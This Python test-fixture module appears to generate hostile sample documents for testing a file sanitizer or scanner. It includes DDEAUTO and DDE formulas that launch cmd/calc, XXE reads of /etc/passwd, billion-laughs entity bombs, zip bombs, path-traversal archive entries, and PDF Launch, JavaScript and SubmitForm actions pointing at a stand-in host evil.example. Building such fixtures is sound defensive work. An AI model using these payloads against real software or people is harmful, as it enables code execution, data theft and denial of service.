"""Documents that run, fetch, hide or burst."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator
from typing import Final

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.samples import documents, papers
from tests.samples.documents import docx, open_document, pptx, xlsx

Hostile = tuple[str, bytes]
_FAR: Final = "http://evil.example/SECRET"
_LAUGHS: Final = b'<!DOCTYPE a [<!ENTITY a0 "ha">' + b"".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">'.encode() for n in range(1, 12)
) + b"]><a>&a11;</a>"  # fmt: skip
_XXE: Final = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def files() -> Iterator[Hostile]:
    """Return the name and the bytes of each."""
    yield from files_of_office()
    yield from _packages()
    yield from _papers()
    yield from _bursting_papers()


def files_of_office() -> Iterator[Hostile]:
    """Return the office documents that run, fetch or hide."""
    yield from _texts()
    yield from _tables_and_shows()
    yield from _open_documents()


def _field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'


def _texts() -> Iterator[Hostile]:
    for name in (
        "word/vbaProject.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin",
        "word/afchunk.mht", "word/a.html", "word/a.exe", "customUI/customUI.xml",
        "word/webextensions/a.xml", "word/media/a.emf", "word/media/a.js", "other/a.xml", "a.lnk",
    ):  # fmt: skip
        yield f"{name.replace('/', '-')}.docx", docx("", {name: b"<a>SECRET</a>"})
    for kind in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "aFChunk"):
        yield f"far-{kind}.docx", docx("", {}, (kind, _FAR, "External"))
        yield f"near-{kind}.docx", docx("", {}, (kind, "../../../../etc/passwd", ""))
    for kind in ("control", "vbaProject", "attachedTemplate", "aFChunk"):
        yield f"hidden-{kind}.docx", docx("", {}, (kind, "settings.xml", ""))
    for code in (
        'DDEAUTO c:\\\\cmd "/k calc"', "DDE a b", f'INCLUDEPICTURE "{_FAR}"', f"INCLUDETEXT {_FAR}",
        'MACROBUTTON x "a"', "LINK Excel.Sheet a", "QUOTE 68 68 69", "EMBED Package", "IMPORT a",
    ):  # fmt: skip
        yield f"field-{code.split()[0]}.docx", docx(_field(code.replace('"', "&quot;")))
    yield "field-cut.docx", docx(_field("DD", "EAU", "TO a b"))
    yield "field-simple.docx", docx('<w:fldSimple w:instr="DDEAUTO a b"/>')
    yield "script-link.docx", docx("", {}, ("hyperlink", "javascript:alert(1)", "External"))
    yield "chunk.docx", docx('<w:altChunk r:id="rId1"/>')
    vml = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/"/></xml>'
    yield "vml.docx", docx("", {"word/drawing1.vml": vml})
    for name, content in (("laughs", _LAUGHS), ("xxe", _XXE)):
        yield f"{name}.docx", docx("", {"word/footer1.xml": content})
        yield f"{name}-16.docx", docx("", {"word/footer1.xml": content.decode().encode("utf-16")})
    yield "square.docx", docx("", {"word/footer1.xml": b"<a " + b'b="' + b"c" * 9_000_000 + b'"/>'})
    yield "deep.docx", docx("", {"word/footer1.xml": b"<a>" * 100_000 + b"</a>" * 100_000})
    yield "wide.docx", docx("<w:p/>" * 2_000_000)
    yield "no-xml.docx", docx("", {"word/footer1.xml": b"MZ no xml"})
    yield "picture.docx", docx("", {"word/media/image2.png": b"<svg onload='SECRET'/>"})


def _tables_and_shows() -> Iterator[Hostile]:
    for number, formula in enumerate(
        ('WEBSERVICE("http://evil.example")', "cmd|'/c calc'!A0", 'CALL("a")', 'EXEC("a")',
         'RTD("a")', "REGISTER.ID(1)", 'IMAGE("http://evil.example")', "web&#115;ervice (A1)")
    ):  # fmt: skip
        yield f"formula-{number}.xlsx", xlsx(formula.replace('"', "&quot;"))
    for name in (
        "xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/externalLinks/externalLink1.xml",
        "xl/connections.xml", "xl/queryTables/queryTable1.xml", "xl/dialogsheets/sheet1.xml",
        "xl/embeddings/oleObject1.bin", "xl/ctrlProps/ctrlProp1.xml",
    ):  # fmt: skip
        yield f"{name.replace('/', '-')}.xlsx", xlsx("A1", {name: b"<a/>"})
    yield "far.xlsx", xlsx("A1", {}, ("externalLinkPath", _FAR, "External"))
    for number, action in enumerate(
        ("ppaction://program?a.exe", "ppaction://macro?a", "ppaction://ole", "cmd.exe")
    ):
        yield f"action-{number}.pptx", pptx(action)
    yield "ole.pptx", pptx(more={"ppt/embeddings/oleObject1.bin": b"x"})
    yield "film.pptx", pptx(more={"ppt/media/a.mp4": b"x"})
    yield "control.pptx", pptx(more={"ppt/slides/slide2.xml": b"<p xmlns='a'><oleObj/></p>"})


def _open_documents() -> Iterator[Hostile]:
    for number, body in enumerate(
        (
            f'<draw:image xlink:href="{_FAR}"/>', '<draw:image xlink:href="../../etc/passwd"/>',
            f'<draw:floating-frame xlink:href="{_FAR}"/>', '<draw:object-ole xlink:href="a"/>',
            '<draw:plugin xlink:href="a"/>', '<draw:applet draw:code="a"/>',
            "<script:event-listener script:language='a'/>", "<office:event-listeners/>",
            f'<text:section-source xlink:href="{_FAR}"/>',
            f'<table:table-source xlink:href="{_FAR}"/>',
            "<office:dde-source/>", "<text:dde-connection-decl/>", "<text:execute-macro/>",
            "<text:script>alert(1)</text:script>", f'<draw:object xlink:href="{_FAR}"/>',
            "<table:table-cell table:formula='of:=WEBSERVICE(&quot;a&quot;)'/>",
            "<table:table-cell table:formula='of:=DDE(&quot;a&quot;)'/>",
            "<office:forms><form:button xlink:href='javascript:SECRET'/></office:forms>",
            "<text:a xlink:href='javascript:SECRET'>a</text:a>",
        )
    ):  # fmt: skip
        yield f"body-{number}.odt", open_document("text", body)
    for name in (
        "Basic/script-lc.xml",
        "Scripts/python/a.py",
        "Object 1",
        "a.jar",
        "Dialogs/a.xml",
    ):
        yield f"{name.replace('/', '-')}.odt", open_document("text", "", {name: b"<a/>"})
    yield "laughs.odt", open_document("text", "", {"styles.xml": _LAUGHS})
    yield "xxe.odt", open_document("text", "", {"META-INF/manifest.xml": _XXE})
    locked = b"<m xmlns='urn:oasis:names:tc:opendocument:xmlns:manifest:1.0'><encryption-data/></m>"
    yield "locked.odt", open_document("text", "", {"META-INF/manifest.xml": locked})
    yield "none.odt", documents.packed({"mimetype": b"application/vnd.oasis.opendocument.text"})
    yield "drawing.odg", open_document("graphics")


def _packages() -> Iterator[Hostile]:
    packed = documents.packed
    zeros = bytes(30_000_000)
    yield "flat.zip", packed({"a": zeros})
    yield "nested.zip", packed({"a.zip": packed({"b.zip": packed({"c": zeros})})})
    yield "app.apk", packed({"AndroidManifest.xml": b"x", "classes.dex": b"dex"})
    yield "app.jar", packed({"META-INF/MANIFEST.MF": b"Main-Class: a"})
    yield "book.epub", packed({"mimetype": b"application/epub+zip"})
    yield "flat.docx", docx("", {"word/footer1.xml": b"<a>" + zeros})
    yield (
        "much.docx",
        docx("", {f"word/footer{n}.xml": b"<a/>" + b" " * 900_000 for n in range(200)}),
    )
    yield "many.docx", docx("", {f"word/footer{n}.xml": b"<a/>" for n in range(3000)})
    yield "picture-zip.docx", docx("", {"word/media/image9.png": packed({"a": zeros})})
    for name in (
        "../a.xml",
        "/etc/a.xml",
        "word/../../a.xml",
        "word\\a.xml",
        "word/a\n.xml",
        "C:/a.xml",
    ):
        yield f"{len(name)}-{ord(name[0])}.docx", docx("", {name: b"<a/>"})
    yield "twice.docx", docx("", {"WORD/document.xml": b"<a/>"})
    yield "macros.docm", docx().replace(b"document.main+xml", b"document.main+xml")[:-1]
    yield (
        "macro-type.docx",
        _with_types("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield "template.dotx", _with_types("docx", "application/vnd.openxmlformats.template.main+xml")
    yield "lying.docx", _lying()
    yield "locked.docx", docx().replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0")


def _with_types(ending: str, kind: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name).replace(documents.MAIN[ending][1].encode(), kind.encode())
            new.writestr(name, content)
    return out.getvalue()


def _lying() -> bytes:
    """Return a package that says its parts are small."""
    whole = bytearray(docx("", {"word/footer1.xml": bytes(40_000_000)}))
    size = (40_000_000).to_bytes(4, "little")
    return bytes(whole.replace(size, (4).to_bytes(4, "little")))


def _papers() -> Iterator[Hostile]:
    pdf, noted, opening = papers.pdf, papers.noted, papers.opening
    launch = Dictionary(S=Name.Launch, F=String("SECRET.exe"))
    far = Dictionary(S=Name.URI, URI=String(_FAR))
    send = Dictionary(S=Name.SubmitForm, F=String(_FAR))
    other = Dictionary(S=Name.GoToR, F=String("SECRET.pdf"), D=Array([0]))
    for name, action in {
        "script": papers.script(), "launch": launch, "far": far, "send": send, "other": other,
    }.items():  # fmt: skip
        yield f"opening-{name}.pdf", pdf(opening(action))
        yield f"noted-{name}.pdf", pdf(noted(action))
    for kind in (Name.RichMedia, Name.Movie, Name.Screen, Name.FileAttachment, Name.Popup):
        yield f"kind{str(kind)[1:]}.pdf", pdf(noted(papers.script(), kind))
    yield "form.pdf", pdf(papers.form)
    yield "attached.pdf", pdf(papers.attached)
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(user="a", owner="b"))
    yield "owned.pdf", pdf(encryption=pikepdf.Encryption(user="", owner="b"))
    yield (
        "later.pdf",
        pdf() + b"\n5 0 obj<</S/JavaScript/JS(SECRET)>>endobj\nxref\n0 0\ntrailer<<>>\n",
    )
    yield "old.pdf", pdf(papers.attached, linearize=True)
    yield "late.pdf", b"\n" * 500 + pdf()
    yield "fdf.pdf", b"%FDF-1.2\n1 0 obj<</FDF<</JavaScript<</Before(a)>>>>>>endobj"
    yield "xdp.pdf", b"<?xml version='1.0'?><xdp:xdp><pdf>x</pdf></xdp:xdp>"
    yield "none.pdf", b"%PDF-1.7\n%%EOF"
    yield "no-pages.pdf", _without_pages()


def _without_pages() -> bytes:
    made = pikepdf.Pdf.new()
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def _bursting_papers() -> Iterator[Hostile]:
    def compressed(content: bytes, filters: object) -> bytes:
        def change(made: pikepdf.Pdf) -> None:
            stream = made.make_stream(content)
            stream.write(content, filter=filters)  # type: ignore[arg-type]
            made.pages[0].obj["/Contents"] = stream

        return papers.pdf(change, compress_streams=False, stream_decode_level=_AS_IS)

    large = zlib.compress(b"0 0 m " * 30_000_000, 9)
    yield "burst.pdf", compressed(large, Name.FlateDecode)
    twice = Array([Name.FlateDecode, Name.FlateDecode])
    yield "burst-twice.pdf", compressed(zlib.compress(large), twice)
    yield (
        "lines.pdf",
        compressed(zlib.compress(b"0 0 300 200 re f 9 9 m 99 99 l S " * 900_000), Name.FlateDecode),
    )
    yield "loop.pdf", papers.pdf(_looping_form)
    yield "turtles.pdf", b"%PDF-1.7\n1 0 obj" + b"[" * 500_000
    yield "dictionaries.pdf", b"%PDF-1.7\n1 0 obj" + b"<</A" * 300_000
    yield (
        "numbers.pdf",
        b"%PDF-1.7\n" + b"".join(b"%d 0 obj 1 endobj\n" % n for n in range(300_000)),
    )
    kids = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    kids += b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9>>endobj\ntrailer<</Root 1 0 R>>"
    yield "own-child.pdf", kids
    yield (
        "xref-loop.pdf",
        b"%PDF-1.7\nxref\n0 1\n0000000000 65535 f\ntrailer<</Prev 9/Size 1>>\nstartxref\n9\n%%EOF",
    )
    yield "huge-page.pdf", papers.pdf(_huge_page)
    yield "huge-picture.pdf", papers.pdf(_huge_picture)


_AS_IS: Final = pikepdf.StreamDecodeLevel.none


def _looping_form(made: pikepdf.Pdf) -> None:
    kind = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    forms = [made.make_stream(b"/A Do /B Do " * 50, kind) for _ in range(9)]
    for first, second in zip(forms, [*forms[1:], forms[0]], strict=True):
        first.Resources = Dictionary(XObject=Dictionary(A=second, B=second))
    page = made.pages[0].obj
    page.Resources = Dictionary(XObject=Dictionary(A=forms[0]))


def _huge_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj["/MediaBox"] = Array([0, 0, 10_000_000, 10_000_000])


def _huge_picture(made: pikepdf.Pdf) -> None:
    photo = made.pages[0].obj.Resources.XObject.A
    photo.Width, photo.Height = 100_000, 100_000
